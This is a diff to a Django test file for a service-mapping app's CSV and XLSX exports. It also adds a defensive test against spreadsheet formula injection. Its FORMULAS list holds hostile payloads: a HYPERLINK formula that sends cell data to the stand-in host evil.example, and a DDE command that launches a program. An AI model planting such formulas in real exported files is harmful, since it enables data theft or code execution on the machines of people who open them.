@@ -19,6 +19,7 @@ from mapping.templatetags.mapping_format import percent_value
 from services.models import Organisation
 from tests.mapping.dashboard_fixtures import *  # noqa: F403
 from tests.mapping.dashboard_fixtures import ETELA_SAVO, SAVONLINNA
+from tests.mapping.worlds import make_service
 
 
 def read_csv(content: bytes) -> list[list[str]]:
@@ -50,30 +51,53 @@ def test_the_gap_list_exports_as_csv_in_rank_order(staff_client: Client, small_w
     assert response["Content-Type"] == "text/csv; charset=utf-8"
     assert "attachment" in response["Content-Disposition"]
     rows = read_csv(response.content)
-    gaps = coverage.gaps(county=ETELA_SAVO)
+    overview = coverage.gap_overview(county=ETELA_SAVO)
     assert rows[0][:4] == ["rank", "wellbeing services county", "municipality code", "municipality"]
-    assert len(rows) == len(gaps) + 1
-    first = rows[1]
-    assert first[0] == "1"
-    assert first[2] == gaps[0].municipality
-    assert int(first[8]) == round(gaps[0].uncovered_children)
-    assert float(first[9]) == percent_value(gaps[0].coverage)
+    assert rows[0][12:] == [
+        "kind",
+        "also counts for",
+        "county coverage (%)",
+        "only services using a method rated at least",
+    ]
+    assert len(rows) == len(overview.unequal) + len(overview.missing) + 1
+    mostly = [row for row in overview.missing if not row.missing_everywhere]
+    everywhere = [row for row in overview.missing if row.missing_everywhere]
+    # Unequal gaps first, then the supports missing in most of the county, then everywhere,
+    # each ranked from 1.
+    first = rows[1 + len(overview.unequal)]
+    assert first[0] == "1" and first[12] == "missing in most of the county"
+    assert int(first[8]) == round(mostly[0].uncovered_children)
+    assert float(first[14]) == percent_value(mostly[0].county_coverage)
+    last = rows[-1]
+    assert last[0] == str(len(everywhere)) and last[12] == "missing everywhere in the county"
+    assert last[3] == ", ".join(everywhere[-1].municipalities)
+    folded = next(row for row in rows if row[5] == "parents" and row[13])
+    assert folded[13] == "mothers, fathers"
 
 
 def test_the_gap_list_exports_as_xlsx_with_numbers_as_numbers(
     staff_client: Client, small_world: dict
 ) -> None:
+    make_service(
+        tier="UNIVERSAL_GROUP",
+        channels=["GROUP"],
+        counties=[ETELA_SAVO],
+        locations=[(61.6886, 27.2723), (61.8687, 28.8794)],
+    )
+    coverage.recompute()
     response = staff_client.get(
         reverse("mapping:gap_export", args=["xlsx"]) + f"?county={ETELA_SAVO}&threshold=50"
     )
     assert response["Content-Type"].startswith("application/vnd.openxmlformats")
     rows = read_xlsx(response.content)
-    gaps = coverage.gaps(county=ETELA_SAVO, threshold=0.5)
-    assert len(rows) == len(gaps) + 1
-    for row, gap in zip(rows[1:], gaps, strict=True):
+    overview = coverage.gap_overview(county=ETELA_SAVO, threshold=0.5)
+    assert overview.unequal
+    assert len(rows) == len(overview.unequal) + len(overview.missing) + 1
+    for row, gap in zip(rows[1:], overview.unequal, strict=False):
         assert row[2] == gap.municipality
         assert isinstance(row[7], int) and row[7] == round(gap.children)
         assert isinstance(row[9], int | float) and row[9] < 50
+        assert isinstance(row[14], int | float) and row[14] > 50
 
 
 def test_the_plan_exports_as_csv_and_xlsx_with_dates_as_dates(
@@ -132,3 +156,43 @@ def test_exports_follow_the_filters_of_the_page(
     response = staff_client.get(f"{url}?county={ETELA_SAVO}")
     assert len(read_csv(response.content)) == 2
     assert "action-plan-south-savo-wellbeing-services-county-" in response["Content-Disposition"]
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Open the plan")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_names_and_texts_from_imports_never_become_formulas(
+    staff_client: Client, action: Action, text: str
+) -> None:
+    action.owner.name_fi = text
+    action.owner.save()
+    Action.objects.filter(pk=action.pk).update(description=text)
+
+    header, row = read_csv(staff_client.get(reverse("mapping:plan_export", args=["csv"])).content)
+    # OWASP: a leading apostrophe makes the spreadsheet program read the rest as text.
+    assert row[header.index("owner organisation")] == "'" + text
+    assert row[header.index("description")] == "'" + text
+
+    content = staff_client.get(reverse("mapping:plan_export", args=["xlsx"])).content
+    sheet = load_workbook(io.BytesIO(content)).active
+    header = [cell.value for cell in sheet[1]]
+    for name in ("owner organisation", "description"):
+        cell = sheet.cell(row=2, column=header.index(name) + 1)
+        # A string cell (XML reads a carriage return back as a line feed).
+        assert (cell.value, cell.data_type) == (text.replace("\r", "\n"), "s")
+
+
+def test_numbers_and_ordinary_texts_are_written_as_they_are(
+    staff_client: Client, action: Action
+) -> None:
+    header, row = read_csv(staff_client.get(reverse("mapping:plan_export", args=["csv"])).content)
+    assert row[header.index("description")] == action.description
+    assert row[header.index("municipality code")] == SAVONLINNA
